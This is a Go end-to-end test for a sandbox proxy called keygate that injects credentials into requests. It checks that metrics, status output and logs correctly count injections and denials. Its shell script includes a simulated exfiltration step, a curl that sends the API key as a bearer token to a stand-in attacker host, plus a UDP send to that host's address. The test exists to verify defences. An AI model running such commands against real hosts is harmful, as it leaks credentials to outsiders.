//go:build linux

package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

// freePort returns a loopback port nothing listens on right now.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// scrape returns the samples of the metrics endpoint: series → value.
func scrape(t *testing.T, addr string) map[string]float64 {
	t.Helper()
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	out := map[string]float64{}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || line[0] == '#' {
			continue
		}
		i := strings.LastIndexByte(line, ' ')
		if v, err := strconv.ParseFloat(line[i+1:], 64); err == nil {
			out[line[:i]] = v
		}
	}
	return out
}

// TestObservability drives injections, denials and refused UDP through a
// real sandbox, then checks that the metrics count exactly what happened,
// that status and sandbox list show it, and that no log holds the secret.
func TestObservability(t *testing.T) {
	w := world(t)
	addr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	a := startAgent(t, w, "--metrics-addr", addr, "--log-format", "json")
	key := secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
	before := scrape(t, addr)

	id := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v", "--allow", w.AttackerHost()))
	script := `for i in 1 2 3; do curl -sS -m 10 -o /dev/null https://` + w.APIHost() + `/m -H "Authorization: Bearer $API_KEY"; done; ` +
		`curl -sS -m 10 -o /dev/null https://` + w.AttackerHost() + `/m -H "Authorization: Bearer $API_KEY"; ` +
		`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('` + w.Attacker.String() + `', 9999))" 2>/dev/null; ` +
		`dig +short +tries=1 +time=2 nothere.` + w.Zone + ` >/dev/null; true`
	if _, errOut, code := a.kg("", "sandbox", "exec", id, "--", "sh", "-c", script); code != 0 {
		t.Fatalf("sandbox: exit %d: %s", code, errOut)
	}
	after := scrape(t, addr)
	delta := func(series string) float64 { return after[series] - before[series] }

	checks := []struct {
		series string
		want   float64
		exact  bool
	}{
		{`keygate_proxy_requests_total{outcome="injected",reason=""}`, 3, true},
		{`keygate_proxy_injections_total`, 3, true},
		{`keygate_proxy_requests_total{outcome="denied",reason="placeholder_unapproved_host"}`, 1, true},
		{`keygate_bpf_events_total{mode="cgroup",reason="deny_udp"}`, 1, false},
		{`keygate_dns_queries_total{outcome="nxdomain_denied"}`, 1, false},
		{`keygate_sandbox_created_total`, 1, true},
		{`keygate_audit_appends_total{kind="request.inject"}`, 3, true},
		{`keygate_audit_appends_total{kind="request.deny"}`, 1, true},
		{`keygate_sandbox_live`, 1, true},
	}
	for _, c := range checks {
		got := delta(c.series)
		if c.series == `keygate_sandbox_live` {
			got = after[c.series]
		}
		if (c.exact && got != c.want) || (!c.exact && got < c.want) {
			t.Errorf("%s changed by %v, want %v", c.series, got, c.want)
		}
	}
	if after[`keygate_tls_leaf_cache_hits_total`]+after[`keygate_tls_leaf_cache_misses_total`] == 0 {
		t.Error("no leaf certificate counted")
	}

	var sbs []struct {
		ID    string
		Stats struct {
			Requests, Injected, Denied uint64
			DNSDenied                  uint64 `json:"dns_denied"`
			CaptureDenied              uint64 `json:"capture_denied"`
		}
	}
	json.Unmarshal([]byte(a.mustKG("", "sandbox", "list", "--json")), &sbs)
	if len(sbs) != 1 || sbs[0].Stats.Injected != 3 || sbs[0].Stats.Denied != 1 || sbs[0].Stats.DNSDenied != 1 ||
		sbs[0].Stats.CaptureDenied < 1 {
		t.Errorf("sandbox list stats: %+v", sbs)
	}
	var st struct {
		Store         string
		Sandboxes     int
		RecentDenials []struct{ Reason, Kind string } `json:"recent_denials"`
	}
	json.Unmarshal([]byte(a.mustKG("", "status", "--json")), &st)
	if st.Store != "bolt" || st.Sandboxes != 1 || len(st.RecentDenials) < 2 {
		t.Errorf("status: %+v", st)
	}
	if out := a.mustKG("", "status"); !strings.Contains(out, "placeholder_unapproved_host") {
		t.Errorf("status table: %s", out)
	}

	// The profiler is there for operators chasing a cost.
	resp, err := http.Get("http://" + addr + "/debug/pprof/")
	if err != nil || resp.StatusCode != 200 {
		t.Errorf("pprof index: %v %v", resp, err)
	} else {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}

	a.stop()
	logs := a.log.String()
	if strings.Contains(logs, key) {
		t.Fatal("the agent's log holds the secret")
	}
	for _, line := range strings.Split(logs, "\n") {
		if line != "" && !json.Valid([]byte(line)) {
			t.Fatalf("--log-format json wrote a line that is not JSON: %q", line)
		}
	}
}
